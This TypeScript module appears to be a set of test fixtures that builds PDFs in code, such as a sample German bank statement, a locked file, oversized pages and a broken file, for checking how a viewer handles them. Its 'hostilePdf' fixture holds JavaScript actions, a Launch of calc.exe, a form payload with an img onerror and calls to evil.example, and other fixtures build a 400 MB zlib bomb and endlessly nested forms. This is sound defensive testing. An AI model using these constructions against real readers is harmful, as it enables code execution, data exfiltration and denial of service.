/* PDFs by code: small, and each with one thing to look at. */

/** A page in points, with what is drawn on it; `extra` stands in its dictionary. */
interface SamplePage {
  width?: number;
  height?: number;
  content: string;
  extra?: string;
}

export interface SamplePdf {
  pages: readonly SamplePage[];
  /** In the catalog: what a reader may run when the document opens. */
  catalog?: string;
  /** In the trailer. */
  trailer?: string;
  /** Further objects, from 100 on, by their number. */
  objects?: Readonly<Record<number, string>>;
}

const stream = (content: string, dictionary = '') =>
  `<< /Length ${content.length} ${dictionary} >>\nstream\n${content}\nendstream`;

/** A PDF as its bytes, one letter a byte. */
function pdfText({ pages, catalog = '', trailer = '', objects = {} }: SamplePdf): string {
  const bodies = new Map<number, string>([
    [1, `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`],
    [
      2,
      `<< /Type /Pages /Count ${pages.length} /Kids [${pages.map((_, i) => `${10 + 2 * i} 0 R`).join(' ')}] >>`,
    ],
    [3, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>'],
    [4, '<< /Type /Font /Subtype /Type1 /BaseFont /Times-Italic /Encoding /WinAnsiEncoding >>'],
  ]);
  pages.forEach(({ width = 595, height = 842, content, extra = '' }, i) => {
    bodies.set(
      10 + 2 * i,
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 ${width} ${height}] /Contents ${11 + 2 * i} 0 R /Resources << /Font << /F1 3 0 R /F2 4 0 R >> /XObject << /X0 100 0 R >> >> ${extra} >>`,
    );
    bodies.set(11 + 2 * i, stream(content));
  });
  for (const [number, body] of Object.entries(objects)) bodies.set(Number(number), body);
  let text = '%PDF-1.7\n';
  const places = new Map<number, number>();
  for (const [number, body] of bodies) {
    places.set(number, text.length);
    text += `${number} 0 obj\n${body}\nendobj\n`;
  }
  const size = Math.max(...bodies.keys()) + 1;
  const table = Array.from({ length: size }, (_, number) => {
    const place = places.get(number);
    return place === undefined
      ? '0000000000 65535 f \n'
      : `${String(place).padStart(10, '0')} 00000 n \n`;
  });
  return `${text}xref\n0 ${size}\n${table.join('')}trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${text.length}\n%%EOF\n`;
}

export const pdfBytes = (pdf: SamplePdf): Uint8Array<ArrayBuffer> =>
  Uint8Array.from(pdfText(pdf), (letter) => letter.charCodeAt(0));

export const pdfFile = (pdf: SamplePdf): Blob =>
  new Blob([pdfBytes(pdf)], { type: 'application/pdf' });

const line = (text: string, y: number, size = 12, font = 'F1') =>
  `BT /${font} ${size} Tf 60 ${y} Td (${text}) Tj ET\n`;

/** A month of a statement of account, in German. */
const month = (name: string, amount: string): SamplePage => ({
  content: [
    line('Kontoauszug', 760, 26),
    line(`${name} 2026`, 730, 14, 'F2'),
    '0.7 w 60 715 m 535 715 l S\n',
    line('Lukas Keller, Bahnhofstra\u00dfe 12, 8001 Z\u00fcrich', 690),
    line('\u00dcbertrag', 650),
    line(`Geh\u00e4lter und L\u00f6hne: CHF ${amount}`, 630),
    '0.12 0.35 0.75 rg 60 560 475 40 re f 1 g\n',
    line('Saldo am Monatsende', 575, 14),
  ].join(''),
});

export const statement: SamplePdf = {
  pages: [
    month('Juli', '8 450.00'),
    month('August', '8 450.00'),
    { ...month('September', '9 120.50'), width: 842, height: 842 },
  ],
};

/** Everything by which a PDF may do something; each shows in the title of the page, or as a request. */
export const hostilePdf: SamplePdf = {
  pages: [
    {
      content: line('Lohnausweis', 760, 26),
      extra: '/AA << /O 101 0 R >> /Annots [102 0 R 103 0 R 104 0 R 105 0 R 106 0 R]',
    },
  ],
  catalog:
    '/OpenAction 101 0 R /AcroForm << /Fields [106 0 R] /XFA 107 0 R /NeedAppearances true >> /Names << /JavaScript << /Names [(run) 101 0 R] >> /EmbeddedFiles << /Names [(evil.html) 108 0 R] >> >>',
  objects: {
    101: "<< /S /JavaScript /JS (document.title = 'ran'; app.alert\\('ran'\\); app.launchURL\\('https://evil.example/js'\\);) >>",
    102: '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (https://evil.example/uri) >> >>',
    103: '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (calc.exe) >> >>',
    104: '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /SubmitForm /F (https://evil.example/form) >> >>',
    105: '<< /Type /Annot /Subtype /FileAttachment /Rect [60 600 80 620] /FS 108 0 R >>',
    106: '<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (<img src=https://evil.example/v onerror=alert\\(1\\)>) /Rect [60 500 400 520] /DA (/Helv 12 Tf 0 g) /AA << /K 101 0 R /F 101 0 R /E 101 0 R >> >>',
    107: stream(
      '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.0/"><subform name="f"><event activity="initialize"><script contentType="application/x-javascript">document.title = "ran"</script></event></subform></template></xdp:xdp>',
    ),
    108: '<< /Type /Filespec /F (evil.html) /EF << /F 109 0 R >> >>',
    109: stream('<script>document.title = "ran"</script>', '/Type /EmbeddedFile'),
  },
};

/** 200 × 200 inches, the most that a page may have. */
export const largePage: SamplePdf = {
  pages: [{ width: 14_400, height: 14_400, content: '1 0 0 rg 0 0 7200 7200 re f\n' }],
};

/** Forms in forms, ten times ten times …: what they draw would take years. */
export const endlessPdf: SamplePdf = {
  pages: [{ content: '/X0 Do\n' }, month('August', '8 450.00')],
  objects: Object.fromEntries(
    Array.from({ length: 12 }, (_, depth) => [
      100 + depth,
      stream(
        depth < 11 ? '/X0 Do '.repeat(10) : '0 0 m 500 500 l S ',
        `/Type /XObject /Subtype /Form /BBox [0 0 600 900] /Resources << /XObject << /X0 ${101 + depth} 0 R >> >>`,
      ),
    ]),
  ),
};

/** Needs a password before anything of it can be read. */
export const lockedPdf: SamplePdf = {
  pages: [month('Juli', '8 450.00')],
  trailer: `/Encrypt << /Filter /Standard /V 1 /R 2 /Length 40 /P -4 /O <${'41'.repeat(32)}> /U <${'42'.repeat(32)}> >> /ID [<${'43'.repeat(16)}> <${'43'.repeat(16)}>]`,
};

/** A picture on it has a size, and no readable data. */
export const partialPdf: SamplePdf = {
  pages: [{ content: `${line('Ausweis', 760, 26)}q 300 0 0 200 60 500 cm /X0 Do Q\n` }],
  objects: {
    100: stream(
      'no picture',
      '/Type /XObject /Subtype /Image /Width 300 /Height 200 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /JPXDecode',
    ),
  },
};

const latin = (bytes: Uint8Array) =>
  Array.from(bytes, (byte) => String.fromCharCode(byte)).join('');

/** A picture of 40 million pixels, of one colour. */
export async function manyPixelsPdf(): Promise<Blob> {
  const pixels = new Blob([new Uint8Array(40_000_000).fill(0x99)]).stream();
  const packed = new Response(pixels.pipeThrough(new CompressionStream('deflate')));
  return pdfFile({
    pages: [{ content: 'q 500 0 0 700 50 70 cm /X0 Do Q\n' }],
    objects: {
      100: stream(
        latin(new Uint8Array(await packed.arrayBuffer())),
        '/Type /XObject /Subtype /Image /Width 8000 /Height 5000 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /FlateDecode',
      ),
    },
  });
}

/** The page contains two megabytes that unpack to 400. */
export const bombPdf = (): SamplePdf => ({
  pages: [{ content: '' }],
  objects: { 11: stream(latin(packedZeros(400 * 1024 * 1024)), '/Filter /FlateDecode') },
});

/** Zeros in the format zlib without the work of packing them: one, and then "258 times the one before" again and again. */
function packedZeros(count: number): Uint8Array {
  const match = '1100010100000';
  // The last block, of the fixed codes, with a zero; after two bytes the same 13 come again.
  const bits = `110${'00110000'}${match.repeat(17)}`;
  const head = Uint8Array.from(bits.slice(0, 120).match(/.{8}/g) ?? [], (byte) =>
    Number.parseInt(byte.split('').reverse().join(''), 2),
  );
  const [first, period] = [head.subarray(0, 2), head.subarray(2)];
  const times = Math.ceil(count / 258 / 8);
  const packed = new Uint8Array(4 + times * period.length);
  packed.set([0x78, 0x9c, ...first]);
  for (let i = 0; i < times; i += 1) packed.set(period, 4 + i * period.length);
  return packed;
}

/** So many pages, each with its number. */
export const manyPages = (count: number): SamplePdf => ({
  pages: Array.from({ length: count }, (_, i) => ({ content: line(`Seite ${i + 1}`, 760, 26) })),
});

/** Begins like a PDF. */
export const brokenPdf = new Blob(['%PDF-1.7\nnothing'], { type: 'application/pdf' });
